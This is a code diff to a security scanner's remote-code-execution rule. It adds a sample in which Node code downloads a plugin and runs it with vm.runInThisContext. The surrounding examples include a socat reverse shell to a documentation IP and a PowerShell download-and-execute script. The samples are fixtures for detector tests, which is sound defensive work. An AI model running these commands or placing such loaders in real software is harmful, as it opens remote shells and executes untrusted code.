@@ -271,6 +271,11 @@ export const s001RemoteCodeExecution: ScanRule = {
       // Each exercises a detector no other example does (test/scan/rule-examples.test.ts: every detector fires somewhere).
       'socat TCP:198.51.100.4:4444 EXEC:/bin/bash,pty,stderr,setsid',
       {
+        path: 'lib/plugins.js',
+        text: 'const https = require("https");\nconst vm = require("vm");\nhttps\n  .get(PLUGIN_URL, (res) => {\n    let src = "";\n    res.on("data", (c) => (src += c));\n    res.on("end", () => vm.runInThisContext(src));\n  });\n',
+        level: 'HIGH',
+      },
+      {
         path: 'scripts/setup.ps1',
         text: '$h = Join-Path $env:TEMP "h.ps1"\n(New-Object Net.WebClient).DownloadFile("https://dl.tools.example/h.ps1", $h)\n. $h\n',
         level: 'HIGH',
